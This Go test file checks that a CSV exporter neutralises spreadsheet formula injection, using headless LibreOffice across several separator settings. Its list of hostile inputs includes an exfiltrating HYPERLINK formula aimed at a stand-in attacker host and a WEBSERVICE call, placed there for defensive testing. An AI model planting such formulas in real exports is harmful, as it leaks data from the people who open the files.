package main

import (
	"bufio"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"receiptrevoker/tasks/outcome"
)

// requireLibreOffice names the environment variable that, set to 1, makes a test fail rather than skip
// where LibreOffice is not installed.
const requireLibreOffice = "REVOKER_REQUIRE_LIBREOFFICE"

// hostileMessages are those that begin a formula for some spreadsheet: at once, or where it splits them.
var hostileMessages = []string{
	"=1+1", "\x00=1+1", "\x01\x02=1+1", " =1+1", "\n=1+1", "\r=1+1", "\t=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
	"＝1+1", "＋1+1", "+1+1", "-1+1", "@SUM(1)", `=HYPERLINK("http://evil.example/"&A1)`,
	"x;=1+1\t=2+2", "실패;=WEBSERVICE(A1)", "x\n=1+1", "x\r\n=1+1", "x,=1+1", "x|=1+1", "x =1+1", "x; =1+1", "x;\x00=1+1",
	`";=1+1`, `x";=1+1`, `x;"=1+1"`, `x;""=1+1`, `";"=1+1";"`, `"` + "\n" + `=1+1`, `x","=1+1`, "{=1+1}", "x;{=1+1}",
	"x\u2028=1+1", "x\u0085=1+1", "x\v=1+1", "x\f=1+1", "'=1+1", "x;'=1+1", "x;-5;=1", "-5 =1+1", "=\n=\n=",
}

// separatorsOfLibreOffice are what the dialog of LibreOffice may be told to split at: the code of each
// character, in the first field of its filter's options.
var separatorsOfLibreOffice = map[string]string{
	"comma": "44", "semicolon": "59", "tab": "9", "blank": "32", "bar": "124",
	"as suggested": "44/59/9", "all": "44/59/9/32/124", "merged": "44/59/9/32/MRG",
}

// LibreOffice opens an export of hostile messages, told each separator, and finds no formula. That it finds
// those of a file that is not made inert shows that the test would see them.
func TestSpreadsheetFindsNoFormula(t *testing.T) {
	t.Parallel()
	program, err := exec.LookPath("soffice")
	if err != nil {
		if os.Getenv(requireLibreOffice) == "1" {
			t.Fatalf("%s=1, but libreoffice is not installed: %v", requireLibreOffice, err)
		}
		t.Skip("libreoffice is not installed; the test that opens exports needs it")
	}
	folder := t.TempDir()
	var export, raw strings.Builder
	out := bufio.NewWriter(&export)
	table := sheet{out}
	_ = table.write(outcome.Fields())
	for _, message := range hostileMessages {
		// The message in two fields: in front of a row, and within.
		o := outcome.Outcome{ImpUID: message, Status: outcome.Dead, Message: message, Attempts: 1}
		o.ApplyNum = message
		_ = table.write(append(o.Values(), values(o)...))
		raw.WriteString(strings.NewReplacer("\n", "", "\r", "").Replace(message) + "\n")
	}
	if err := out.Flush(); err != nil {
		t.Fatal(err)
	}
	for name, codes := range separatorsOfLibreOffice {
		if formulas := formulasIn(t, program, folder, codes, export.String()); len(formulas) > 0 {
			t.Errorf("split at %s: %d formulas: %q", name, len(formulas), formulas)
		}
	}
	if formulas := formulasIn(t, program, folder, "44/59/9", raw.String()); len(formulas) < 5 {
		t.Errorf("of a hostile file LibreOffice runs %q: the test would miss a formula", formulas)
	}
}

// formulasIn returns the formulas that LibreOffice finds in a CSV that it splits at the characters with
// these codes. It reads UTF-8 (76) with quotation marks (34), and writes its own XML, in which a cell with
// a formula has an attribute that says so.
func formulasIn(t *testing.T, program, folder, codes, text string) (formulas []string) {
	t.Helper()
	csv, flat := filepath.Join(folder, "export.csv"), filepath.Join(folder, "export.fods")
	if err := os.WriteFile(csv, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	command := exec.CommandContext(ctx, program, "-env:UserInstallation=file://"+filepath.Join(folder, "profile"),
		"--headless", "--infilter=CSV:"+codes+",34,76,1", "--convert-to", "fods", "--outdir", folder, csv)
	if text, err := command.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, text)
	}
	cells, err := os.ReadFile(flat)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(cells), "<table:table-row") {
		t.Fatalf("LibreOffice has read no row:\n%s", cells)
	}
	for _, rest := range strings.Split(string(cells), "table:formula=\"")[1:] {
		formula, _, _ := strings.Cut(rest, "\"")
		formulas = append(formulas, formula)
	}
	if err := os.Remove(flat); err != nil {
		t.Fatal(err)
	}
	return formulas
}
